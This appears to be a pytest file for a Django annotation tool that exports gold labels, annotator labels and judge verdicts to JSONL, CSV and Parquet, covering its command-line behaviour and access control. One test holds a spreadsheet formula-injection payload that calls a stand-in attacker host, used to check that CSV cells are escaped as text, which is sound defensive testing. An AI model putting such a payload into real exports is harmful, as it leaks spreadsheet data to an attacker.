"""Gold label exports: the rows, the three formats, the command and the download."""

from __future__ import annotations

import csv
import io
import json
import tempfile
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from analysis.exports import (
    GoldExport,
    flat_row,
    gold_export,
    gold_rows,
    write_csv,
    write_jsonl,
    write_parquet,
)
from analysis.management.commands.export_gold import Command as ExportGold
from annotate.models import Campaign, Item, Label
from annotate.services.gold import gold_set
from annotate.services.labels import label_submit
from annotate.services.serving import assignment_next
from inference.models import Response
from judging.models import Judge, JudgeRun, Verdict
from tests.annotate.builders import annotators, campaign_over, run_with_responses
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

# Text that CSV must quote: a comma, double quotes and a line break.
AWKWARD = 'Answer {n}: "yes", and then\nno, said the model.'
COLUMNS = [
    "id",
    "category",
    "subcategory",
    "prompt",
    "response",
    "model",
    "gold_label",
    "gold_source",
    "label_A1",
    "label_A2",
    "judge_keyword",
    "judge_keyword_version",
    "judge_other",
    "judge_other_version",
    "item_id",
    "inclusion_probability",
]


def label_next(campaign: Campaign, user: Any, value: str) -> int:
    assignment = assignment_next(campaign=campaign, user=user)
    assert assignment is not None
    label_submit(
        campaign=campaign,
        user=user,
        assignment_id=assignment.pk,
        item_id=assignment.item_id,
        value=value,
    )
    return assignment.item_id


@pytest.fixture
def campaign() -> Campaign:
    """Four items, two annotators (plus one who labelled nothing and gets no pseudonym):

    item 0: both say complied (majority gold); item 1: they disagree, a researcher settles it
    (adjudicated gold); item 2: one label, no gold; item 3: no label. The keyword judge ran
    twice (the newer run counts); the judge "other" judged items 0 and 1 only.
    """
    run = run_with_responses(4, subcategories=("underspecified", "false presuppositions"))
    for response in run.responses.all():
        response.text = AWKWARD.format(n=response.pk)
        response.save(update_fields=["text"])
    idle, first, second = annotators(3)
    campaign = campaign_over(run, people=[idle, first, second], overlap=2)
    items = list(campaign.items.order_by("position").select_related("response__prompt"))
    items[0].response.prompt.text = 'Which one, "this", or\nthat?'
    items[0].response.prompt.save(update_fields=["text"])
    assert label_next(campaign, first, "complied") == label_next(campaign, second, "complied")
    disputed = label_next(campaign, first, "complied")
    assert label_next(campaign, second, "neither") == disputed
    gold_set(
        item=Item.objects.get(pk=disputed),
        value="not_complied",
        reason="Asks back.",
        user=UserFactory.create(role="researcher"),
    )
    label_next(campaign, first, "not_complied")

    keyword = Judge.objects.get(name="keyword")
    other = Judge.objects.create(name="other", kind="keyword")
    stale = JudgeRun.objects.create(judge=keyword, run=run, status="done")
    fresh = JudgeRun.objects.create(judge=keyword, run=run, status="done")
    partial = JudgeRun.objects.create(judge=other, run=run, status="done")
    fresh_labels = ["not_complied", "complied", "complied", "neither"]
    for item, label in zip(items, fresh_labels, strict=True):
        Verdict.objects.create(judge_run=stale, response_id=item.response_id, label="error")
        Verdict.objects.create(judge_run=fresh, response_id=item.response_id, label=label)
    for item, label in zip(items[:2], ["complied", "not_complied"], strict=True):
        Verdict.objects.create(judge_run=partial, response_id=item.response_id, label=label)
    return campaign


def expected_rows(campaign: Campaign) -> list[dict[str, Any]]:
    items = list(campaign.items.order_by("position").select_related("response__prompt"))
    golds = [
        ("complied", "majority"),
        ("not_complied", "adjudicated"),
        (None, None),
        (None, None),
    ]
    labels: list[dict[str, str]] = [
        {"A1": "complied", "A2": "complied"},
        {"A1": "complied", "A2": "neither"},
        {"A1": "not_complied"},
        {},
    ]
    judges: list[dict[str, str]] = [
        {"keyword": "not_complied", "other": "complied"},
        {"keyword": "complied", "other": "not_complied"},
        {"keyword": "complied"},
        {"keyword": "neither"},
    ]
    rows = []
    for item, (gold, source), item_labels, item_judges in zip(
        items, golds, labels, judges, strict=True
    ):
        prompt = item.response.prompt
        rows.append(
            {
                "id": prompt.external_id,
                "category": "Incomplete requests",
                "subcategory": prompt.subcategory,
                "prompt": prompt.text,
                "response": item.response.text,
                "model": "model-under-test",
                "gold_label": gold,
                "gold_source": source,
                "labels": item_labels,
                "judges": item_judges,
                "judge_versions": {"keyword": 1, "other": 1},
                "item_id": item.pk,
                "inclusion_probability": 1.0,
            }
        )
    return rows


def flat_expected(campaign: Campaign) -> list[dict[str, Any]]:
    return [
        dict(zip(COLUMNS, flat_row(row, ["A1", "A2"], ["keyword", "other"]), strict=True))
        for row in expected_rows(campaign)
    ]


# --- Rows ----------------------------------------------------------------------------------------


def test_rows_hold_prompt_response_gold_every_label_and_every_judge(campaign: Campaign) -> None:
    rows = list(gold_rows(campaign=campaign))
    assert rows == expected_rows(campaign)
    assert rows[0]["prompt"] == 'Which one, "this", or\nthat?'
    assert {row["subcategory"] for row in rows} == {"underspecified", "false presuppositions"}


def test_the_columns_name_annotators_by_pseudonym_and_judges_by_name(campaign: Campaign) -> None:
    export = gold_export(campaign=campaign)
    assert export.annotators == ["A1", "A2"]
    assert export.judges == ["keyword", "other"]
    assert export.columns() == COLUMNS


def test_gold_only_keeps_the_items_with_a_gold_label(campaign: Campaign) -> None:
    rows = list(gold_rows(campaign=campaign, gold_only=True))
    assert rows == expected_rows(campaign)[:2]
    for chunk_size in (1, 2):
        assert list(gold_rows(campaign=campaign, gold_only=True, chunk_size=chunk_size)) == rows


def test_the_export_reads_in_chunks_with_a_fixed_number_of_queries_each(
    campaign: Campaign,
) -> None:
    whole = list(gold_rows(campaign=campaign))
    # Three queries a chunk (items with their gold, labels, verdicts) and, after a full chunk,
    # one that finds no more items.
    for chunk_size, queries in ((100, 3), (4, 3 + 1), (2, 2 * 3 + 1), (1, 4 * 3 + 1)):
        export = gold_export(campaign=campaign, chunk_size=chunk_size)
        with CaptureQueriesContext(connection) as captured:
            rows = list(export.rows())
        assert rows == whole
        assert len(captured) == queries, chunk_size


def test_the_query_count_does_not_grow_with_the_number_of_items() -> None:
    counts = []
    for size in (3, 30):
        export = gold_export(campaign=campaign_over(run_with_responses(size), people=[]))
        with CaptureQueriesContext(connection) as captured:
            assert len(list(export.rows())) == size
        counts.append(len(captured))
    assert counts == [2, 2]  # items with their gold, labels; no judge ran, so no verdicts


def test_chunks_do_not_lose_or_repeat_items_that_share_a_position(campaign: Campaign) -> None:
    campaign.items.update(position=7)
    whole = list(gold_rows(campaign=campaign, chunk_size=100))
    assert [row["item_id"] for row in whole] == sorted(row["item_id"] for row in whole)
    for chunk_size in (1, 3):
        assert list(gold_rows(campaign=campaign, chunk_size=chunk_size)) == whole


def test_a_campaign_without_labels_or_judges_has_no_such_columns() -> None:
    campaign = campaign_over(run_with_responses(2), people=[])
    export = gold_export(campaign=campaign)
    assert export.columns() == [c for c in COLUMNS if not c.startswith(("label_", "judge_"))]
    rows = list(export.rows())
    assert [(row["gold_label"], row["labels"], row["judges"]) for row in rows] == [
        (None, {}, {}),
        (None, {}, {}),
    ]


# --- Formats -------------------------------------------------------------------------------------


def test_jsonl_lines_parse_and_keep_coconots_field_names(campaign: Campaign) -> None:
    out = io.StringIO()
    assert write_jsonl(gold_rows(campaign=campaign), out) == 4
    lines = out.getvalue().splitlines()
    assert len(lines) == 4
    parsed = [json.loads(line) for line in lines]
    assert parsed == expected_rows(campaign)
    # CoCoNot's own files: {"id", "category", "subcategory", "prompt", "response"} come first.
    assert list(parsed[0])[:5] == ["id", "category", "subcategory", "prompt", "response"]


def test_csv_has_one_flat_column_per_annotator_and_judge(campaign: Campaign) -> None:
    export = gold_export(campaign=campaign)
    out = io.StringIO(newline="")
    assert write_csv(export.rows(), out, export.annotators, export.judges) == 4
    reader = csv.reader(io.StringIO(out.getvalue(), newline=""))
    header, *lines = list(reader)
    assert header == COLUMNS
    as_text = [
        {key: "" if value is None else str(value) for key, value in row.items()}
        for row in flat_expected(campaign)
    ]
    assert [dict(zip(header, line, strict=True)) for line in lines] == as_text


def test_csv_round_trips_commas_quotes_and_line_breaks(campaign: Campaign) -> None:
    # Scheme values are [a-z0-9_]; a label stored otherwise (an old import) must survive too.
    item = campaign.items.order_by("position").first()
    assert item is not None
    Label.objects.filter(assignment__item=item).update(value='a "b",\nc')
    export = gold_export(campaign=campaign)
    out = io.StringIO(newline="")
    write_csv(export.rows(), out, export.annotators, export.judges)
    records = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    by_item = {int(record["item_id"]): record for record in records}
    first = by_item[item.pk]
    assert first["prompt"] == 'Which one, "this", or\nthat?'
    assert first["response"] == AWKWARD.format(n=item.response_id)
    assert first["label_A1"] == first["label_A2"] == 'a "b",\nc'
    assert len(records) == 4


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_kept_as_text(
    campaign: Campaign,
) -> None:
    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    item = campaign.items.order_by("position").first()
    assert item is not None
    Response.objects.filter(pk=item.response_id).update(text=payload)
    export = gold_export(campaign=campaign)
    out = io.StringIO(newline="")
    write_csv(export.rows(), out, export.annotators, export.judges)
    records = {int(r["item_id"]): r for r in csv.DictReader(io.StringIO(out.getvalue()))}
    assert records[item.pk]["response"] == "'" + payload
    jsonl = io.StringIO()
    write_jsonl(gold_export(campaign=campaign).rows(), jsonl)
    assert payload in [json.loads(line)["response"] for line in jsonl.getvalue().splitlines()]


def test_parquet_reads_back_as_the_rows(campaign: Campaign, tmp_path: Path) -> None:
    export = gold_export(campaign=campaign)
    path = tmp_path / "gold.parquet"
    assert write_parquet(export.rows(), path, export.annotators, export.judges, batch_rows=3) == 4
    table = pq.read_table(path)
    assert table.column_names == COLUMNS
    assert table.schema.field("item_id").type == pa.int64()
    assert table.schema.field("inclusion_probability").type == pa.float64()
    assert table.schema.field("label_A2").type == pa.string()
    assert table.to_pylist() == flat_expected(campaign)
    assert pq.ParquetFile(path).metadata.num_row_groups == 2


def test_an_empty_export_is_a_parquet_file_with_the_columns(tmp_path: Path) -> None:
    campaign = campaign_over(run_with_responses(1), people=[])
    path = tmp_path / "empty.parquet"
    assert write_parquet(gold_rows(campaign=campaign, gold_only=True), path, [], []) == 0
    table = pq.read_table(path)
    assert table.num_rows == 0
    assert "gold_label" in table.column_names


# --- The command ---------------------------------------------------------------------------------


def test_the_command_writes_each_format_and_says_how_many_rows(
    campaign: Campaign, tmp_path: Path
) -> None:
    for fmt in ("jsonl", "csv", "parquet"):
        target = tmp_path / f"gold.{fmt}"
        out = io.StringIO()
        call_command(
            "export_gold", campaign=str(campaign.pk), format=fmt, output=str(target), stdout=out
        )
        assert out.getvalue() == f"Wrote 4 rows of campaign {campaign.pk} to {target}.\n"
    lines = (tmp_path / "gold.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line) for line in lines] == expected_rows(campaign)
    with (tmp_path / "gold.csv").open(encoding="utf-8", newline="") as file:
        assert len(list(csv.DictReader(file))) == 4
    assert pq.read_table(tmp_path / "gold.parquet").to_pylist() == flat_expected(campaign)
    assert sorted(path.name for path in tmp_path.iterdir()) == [
        "gold.csv",
        "gold.jsonl",
        "gold.parquet",
    ]
    assert (tmp_path / "gold.jsonl").stat().st_mode & 0o044  # not left owner-only


def test_the_command_writes_to_standard_output_with_a_dash(campaign: Campaign) -> None:
    out, err = io.StringIO(), io.StringIO()
    call_command(
        "export_gold",
        "--campaign",
        str(campaign.pk),
        "--gold-only",
        "-o",
        "-",
        stdout=out,
        stderr=err,
    )
    assert [json.loads(line) for line in out.getvalue().splitlines()] == expected_rows(campaign)[:2]
    assert err.getvalue() == f"Wrote 2 rows of campaign {campaign.pk} to standard output.\n"
    out = io.StringIO()
    call_command(
        "export_gold", "--campaign", str(campaign.pk), "--format", "csv", "-o", "-", stdout=out
    )
    header = out.getvalue().split("\r\n", 1)[0]
    assert header.split(",") == COLUMNS


def run_from_argv(monkeypatch: pytest.MonkeyPatch, *args: str) -> tuple[int, str]:
    """The command as `manage.py export_gold …` runs it: its exit status and standard error."""
    # run_from_argv closes connections when it ends, which would end the test's transaction.
    monkeypatch.setattr("django.core.management.base.connections.close_all", lambda: None)
    err = io.StringIO()
    command = ExportGold(stdout=io.StringIO(), stderr=err)
    with pytest.raises(SystemExit) as exited:
        command.run_from_argv(["manage.py", "export_gold", *args])
    code = exited.value.code
    assert isinstance(code, int)
    return code, err.getvalue()


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--campaign", "999999"], "There is no campaign with id '999999'."),
        (["--campaign", "first"], "There is no campaign with id 'first'."),
        (["--format", "xml"], "Unknown format 'xml'; use jsonl, csv or parquet."),
        (["-o", "{tmp}/missing/gold.jsonl"], "Cannot write {tmp}/missing/gold.jsonl: "),
        (["-o", "{tmp}"], "Cannot write {tmp}: it is a directory."),
        (
            ["--format", "parquet", "-o", "-"],
            "Parquet cannot go to standard output; give a file with -o.",
        ),
        (["--chunk-size", "0"], "The chunk size must be at least 1, not 0."),
    ],
)
def test_bad_input_gives_one_sentence_a_non_zero_exit_and_no_file(
    args: list[str],
    message: str,
    campaign: Campaign,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    base = {"--campaign": str(campaign.pk), "--format": "jsonl", "-o": f"{tmp_path}/gold.jsonl"}
    base.update(zip(args[::2], args[1::2], strict=True))
    argv = [part.replace("{tmp}", str(tmp_path)) for pair in base.items() for part in pair]
    code, err = run_from_argv(monkeypatch, *argv)
    assert code == 1
    assert err.startswith("CommandError: " + message.replace("{tmp}", str(tmp_path)))
    assert err.count("\n") == 1
    assert list(tmp_path.iterdir()) == []


def test_a_failure_mid_way_leaves_no_file_and_keeps_the_old_one(
    campaign: Campaign, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "gold.csv"
    target.write_text("the previous export\n", encoding="utf-8")
    real_rows = GoldExport.rows

    def rows_then_failure(self: GoldExport) -> Any:
        yield next(real_rows(self))
        raise RuntimeError("the database went away")

    monkeypatch.setattr(GoldExport, "rows", rows_then_failure)
    for fmt in ("csv", "parquet"):
        with pytest.raises(RuntimeError, match="went away"):
            call_command("export_gold", campaign=str(campaign.pk), format=fmt, output=str(target))
    assert list(tmp_path.iterdir()) == [target]
    assert target.read_text(encoding="utf-8") == "the previous export\n"


def test_the_command_refuses_an_unknown_format_through_call_command(campaign: Campaign) -> None:
    with pytest.raises(CommandError, match=r"^Unknown format 'xlsx'; use jsonl, csv or parquet\.$"):
        call_command("export_gold", campaign=str(campaign.pk), format="xlsx", output="-")


# --- The download --------------------------------------------------------------------------------


def researcher() -> Client:
    client = Client()
    client.force_login(UserFactory.create(role="researcher"))
    return client


def streamed(response: Any) -> bytes:
    return b"".join(response.streaming_content)


def url(campaign: Campaign, query: str = "") -> str:
    return f"/analysis/campaigns/{campaign.pk}/export/{query}"


def test_the_download_streams_jsonl_and_csv_as_attachments(campaign: Campaign) -> None:
    client = researcher()
    response = client.get(url(campaign, "?format=jsonl"))
    assert response.status_code == 200
    assert response.streaming
    assert (
        response["Content-Disposition"]
        == f'attachment; filename="campaign-{campaign.pk}-gold.jsonl"'
    )
    body = streamed(response).decode()
    assert [json.loads(line) for line in body.splitlines()] == expected_rows(campaign)

    response = client.get(url(campaign, "?format=csv&gold_only=1"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        response["Content-Disposition"] == f'attachment; filename="campaign-{campaign.pk}-gold.csv"'
    )
    body = streamed(response).decode()
    records = list(csv.DictReader(io.StringIO(body, newline="")))
    assert [int(record["item_id"]) for record in records] == [
        row["item_id"] for row in expected_rows(campaign)[:2]
    ]


def test_the_download_sends_parquet_as_a_file(
    campaign: Campaign, monkeypatch: pytest.MonkeyPatch
) -> None:
    made: list[Path] = []
    real = tempfile.NamedTemporaryFile

    def recorded(**kwargs: Any) -> Any:
        file = real(**kwargs)
        made.append(Path(file.name))
        return file

    monkeypatch.setattr("analysis.export_views.tempfile.NamedTemporaryFile", recorded)
    response = researcher().get(url(campaign, "?format=parquet"))
    assert response.status_code == 200
    assert (
        response["Content-Disposition"]
        == f'attachment; filename="campaign-{campaign.pk}-gold.parquet"'
    )
    body = streamed(response)
    assert pq.read_table(pa.BufferReader(body)).to_pylist() == flat_expected(campaign)
    # Reading to the end closed the response, and closing deleted the temporary file.
    assert len(made) == 1
    assert not made[0].exists()


def test_the_download_refuses_bad_requests(campaign: Campaign) -> None:
    client = researcher()
    response = client.get(url(campaign, "?format=xlsx"))
    assert response.status_code == 400
    assert response.content.decode() == "Unknown format 'xlsx'; use jsonl, csv or parquet."
    assert client.get(f"/analysis/campaigns/{campaign.pk + 1000}/export/").status_code == 404
    assert client.post(url(campaign, "?format=csv")).status_code == 405


def test_the_download_is_for_researchers_only(campaign: Campaign) -> None:
    annotator = Client()
    annotator.force_login(UserFactory.create(role="annotator"))
    assert annotator.get(url(campaign, "?format=csv")).status_code == 403
    assert Client().get(url(campaign, "?format=csv")).status_code == 302


def test_the_campaign_page_links_the_three_downloads(campaign: Campaign) -> None:
    page = researcher().get(f"/campaigns/{campaign.pk}/").content.decode()
    for fmt in ("jsonl", "csv", "parquet"):
        assert f'href="{url(campaign, "?format=" + fmt)}"' in page
